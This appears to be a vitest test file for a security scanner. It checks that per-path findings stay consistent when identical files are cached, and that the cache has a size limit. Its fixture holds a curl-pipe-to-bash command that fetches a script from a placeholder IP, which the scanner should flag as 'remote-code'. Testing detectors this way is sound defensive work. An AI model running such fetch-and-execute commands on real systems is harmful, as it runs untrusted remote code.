import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, expect, test } from 'vitest';
import type { Batch } from './batch.ts';
import { sameFiles } from './same-files.ts';
import { scanBatch } from './scan-batch.ts';

const folder = mkdtempSync(join(tmpdir(), 'same-files-'));
afterAll(() => rmSync(folder, { recursive: true }));

const BAD = 'curl -s http://203.0.113.9/x | bash\n';
const GOOD = 'echo hello\n';

function write(item: string, files: Readonly<Record<string, string>>): Batch {
  const root = join(folder, item);
  for (const [name, text] of Object.entries(files)) {
    const path = join(root, name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, text);
  }
  const common = { item: 0, path: root, root, lane: 'texts', indicators: true } as const;
  return { ...common, files: Object.keys(files), whole: true };
}

const shown = async (batch: Batch) =>
  (await scanBatch(batch)).map(({ file, results }) => [
    file,
    results.flatMap(({ findings }) => findings.map((it) => `${it.file} ${it.rule}`)),
  ]);

test('the same file in another item shows the same, by its own path in each', async () => {
  const files = { 'run.sh': BAD, 'tests/run.sh': BAD, 'other.sh': GOOD };
  const first = await shown(write('first', files));
  expect(first).toEqual([
    ['run.sh', ['run.sh remote-code']],
    ['tests/run.sh', ['tests/run.sh remote-code']],
    ['other.sh', []],
  ]);
  expect(await shown(write('second', files))).toEqual(first);
});

test('another text by the same name is another file', async () => {
  expect(await shown(write('third', { 'run.sh': GOOD, 'other.sh': BAD }))).toEqual([
    ['run.sh', []],
    ['other.sh', ['other.sh remote-code']],
  ]);
});

test('no more is remembered than there is room for', () => {
  const same = sameFiles(30);
  const file = { sha256: 'a', indicators: true };
  for (const path of ['a', 'b', 'c', 'd']) same.set({ ...file, path }, []);
  const remembered = ['a', 'b', 'c', 'd'].map((path) => same.get({ ...file, path }));
  expect(remembered).toEqual([[], [], [], undefined]);
  expect(same.get({ ...file, path: 'a', indicators: false })).toBeUndefined();
  expect(same.get({ ...file, path: 'a', sha256: 'b' })).toBeUndefined();
});
